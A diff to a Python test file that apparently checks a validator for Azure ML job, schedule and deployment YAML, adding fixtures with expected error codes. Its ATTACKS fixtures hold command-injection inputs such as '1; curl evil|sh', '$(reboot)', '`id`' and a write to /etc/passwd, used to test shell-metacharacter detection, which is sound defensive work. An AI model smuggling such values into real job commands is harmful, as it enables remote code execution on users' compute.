@@ -419,16 +419,17 @@ PIPELINES = {
 }
 
 ATTACKS = {
-    "command-in-literal": "environment: azureml:e:1\ncommand: python train.py ${{inputs.x}}\n"
+    "command-in-literal": "environment: azureml:e:1\ncommand: python /o/train.py ${{inputs.x}}\n"
     'inputs:\n  x: "1; curl evil|sh"  # error: shell-metacharacter\n',
     "substitution-in-double-quotes": "environment: azureml:e:1\n"
-    'command: python train.py "${{inputs.x}}"\n'
+    'command: python /o/train.py "${{inputs.x}}"\n'
     "inputs:\n  x: $(reboot)  # error: shell-metacharacter\n",
     "quote-out-of-single-quotes": "environment: azureml:e:1\n"
-    "command: python train.py '${{inputs.x}}'\ninputs:\n  x: a' b  # error: shell-metacharacter\n",
-    "newline-in-literal": "environment: azureml:e:1\ncommand: python train.py ${{inputs.x}}\n"
+    "command: python /o/train.py '${{inputs.x}}'\n"
+    "inputs:\n  x: a' b  # error: shell-metacharacter\n",
+    "newline-in-literal": "environment: azureml:e:1\ncommand: python /o/train.py ${{inputs.x}}\n"
     "inputs:\n  x: |  # error: shell-metacharacter\n    1\n    reboot\n",
-    "backtick-in-literal": "environment: azureml:e:1\ncommand: python train.py ${{inputs.x}}\n"
+    "backtick-in-literal": "environment: azureml:e:1\ncommand: python /o/train.py ${{inputs.x}}\n"
     "inputs:\n  x: '`id`'  # error: shell-metacharacter\n",
     "argument-of-bash": "environment: azureml:e:1\ncommand: bash -c 'train ${{inputs.x}}'\n"
     "inputs:\n  x: 1 & reboot  # error: shell-metacharacter\n",
@@ -441,7 +442,7 @@ ATTACKS = {
     + "      - a > /etc/passwd  # error: shell-metacharacter\n",
     "literal-of-pipeline": "type: pipeline\ncompute: azureml:c\ninputs:\n"
     "  x: a; b  # error: shell-metacharacter\njobs:\n"
-    "  s:\n    environment: azureml:e:1\n    command: python train.py ${{inputs.y}}\n"
+    "  s:\n    environment: azureml:e:1\n    command: python /o/train.py ${{inputs.y}}\n"
     "    inputs: {y: '${{parent.inputs.x}}'}\n",
     "literal-into-component": PIPELINE + "  train:\n    component: component.yml\n    inputs:\n"
     "      data: ${{parent.inputs.faq}}\n      rate: 0.5\n"
@@ -536,6 +537,20 @@ SCHEDULES = {
     "    hours: [4, 25]  # error: bad-recurrence\n    minutes: 0\n",
     "schedule-of-a-command": "name: s\ncreate_job: ./command.part  # error: schedule-job\n"
     "trigger: {type: cron, expression: 0 * * * *}\n",
+    "schedule-time-zone": "name: s\ncreate_job: azureml:j\ntrigger:\n  type: cron\n"
+    "  expression: 0 * * * *\n  time_zone: Europe/Berlin  # error: bad-time-zone\n",
+    **{
+        f"schedule-input-{number}": "name: s\ntrigger: {type: cron, expression: 0 * * * *}\n"
+        "create_job:\n  type: pipeline\n  job: ./scheduled.part\n  inputs:\n"
+        f"    {written}  # error: {code}\n"
+        for number, (written, code) in enumerate(
+            [
+                ("note: ''", "empty-input"),
+                *(("raet: 0.5", "schedule-input"), ("rate: fast", "input-range")),
+                *(("data: 3", "schedule-input"), ("rate: {path: data}", "schedule-input")),
+            ]
+        )
+    },
     "recurrence-interval-0": "name: s\ncreate_job: azureml:j\ntrigger:\n  type: recurrence\n"
     "  frequency: day\n  interval: 0  # error: bad-recurrence\n",
 }
@@ -770,6 +785,62 @@ SERVICE = {
     + "    input_data: ${{inputs.rows}}\n"
     + _TASK.replace("file.txt", "none.py  # error: missing-script"),
     "environment-asset": "name: one\nbuild:  # error: bad-environment\n  dockerfile_path: x\n",
+    **{
+        f"script-behind-{number}": "environment: azureml:e:1\ncode: src\n"
+        f"command: {command}  # error: missing-script\n"
+        for number, command in enumerate(
+            [
+                *("bash run.sh", "sh -eu ./run.sh --rate 1", "source run.sh", "./run.sh"),
+                *("torchrun --nproc_per_node 4 none.py", "accelerate launch none.py --a b"),
+                *("mpirun -n 2 python none.py", "python -m torch.distributed.run none.py"),
+                *("deepspeed none.py", "\"python 'none.py'\"", "python -W ignore none.py"),
+                *("python -X dev -u 'none.py'", "pip install rich && python none.py"),
+                *("export A=1; python none.py 2>&1 | tee log.txt", "A=1 python3.11 none.py"),
+                *("python train.py || python none.py", "python -m train.none", "src/a.sh"),
+                *("bash -c 'python none.py'", "time python none.py", "python none.py --x 1"),
+                *("pip install -r none.txt && echo hi", "python -m train.none.x"),
+            ]
+        )
+    },
+    "script-of-spark": "type: spark\ncode: src\nentry:\n  file: none.py  # error: missing-script\n"
+    "environment: azureml:e:1\n"
+    "resources: {instance_type: standard_e4s_v3, runtime_version: '3.4'}\n"
+    "conf: {spark.driver.cores: 1, spark.driver.memory: 2g, spark.executor.cores: 2,\n"
+    "  spark.executor.memory: 2g, spark.executor.instances: 2}\n",
+    "script-in-lines": "environment: azureml:e:1\ncode: src\ncommand: |  # error: missing-script\n"
+    "  # it's prepared\n  python train.py \\\n    --rate 1\n  python none.py\n",
+    "script-with-values": "environment: azureml:e:1\ncode: src\ninputs: {x: 1}\n"
+    "command: A=${{ inputs.x }} python none.py $[[--x ${{inputs.x}}]]  # error: missing-script\n",
+    "script-without-code": "environment: azureml:e:1\n"
+    "command: python show.py  # error: missing-script\n",
+    "script-that-is-ignored": "environment: azureml:e:1\ncode: ignored\n"
+    "command: python train.py  # error: missing-script\n",
+    "scoring-script-that-is-ignored": DEPLOYMENT.replace(
+        "{code: src, scoring_script: file.txt}",
+        "\n  code: ignored\n  scoring_script: train.py  # error: scoring-script",
+    ),
+    "dockerfile-that-is-ignored": _ENVIRONMENT
+    + "  build: {path: ignored}  # error: bad-environment\n",
+    **{
+        f"port-name-{number}": COMPONENT + f"command: echo\n{ports}  # error: bad-name\n"
+        for number, ports in enumerate(
+            [
+                *("inputs: {learning-rate: {type: number}}", "outputs: {a b: {type: uri_file}}"),
+                "inputs:\n  Rate: {type: number}\n  rate: {type: number}",
+                "outputs:\n  a: {type: uri_file}\n  A: {type: uri_file}",
+                *("inputs:\n  1st: {type: number}", "outputs:\n  my out: {type: uri_file}"),
+            ]
+        )
+    },
+    "port-name-of-job": COMMAND + "inputs:\n  learning-rate: 1  # error: bad-name\n",
+    "gpus-with-a-build-for-cpus": DEPLOYMENT.replace("DS3_v2", "NC6s_v3")
+    + "environment:  # error: deployment-build\n  image: i:1\n"
+    "  conda_file: {dependencies: [pytorch-cpu=2.13]}\n",
+    "literal-through-a-pipeline": "type: pipeline\ncompute: azureml:c\n"
+    "inputs:\n  rounds: ten  # error: input-range\n  data: {type: uri_folder, path: data}\njobs:\n"
+    "  train:\n    component: component.yml\n    inputs:\n"
+    "      data: ${{parent.inputs.data}}\n      rate: 0.5\n"
+    "      rounds: ${{parent.inputs.rounds}}\n",
 }
 
 CASES = {
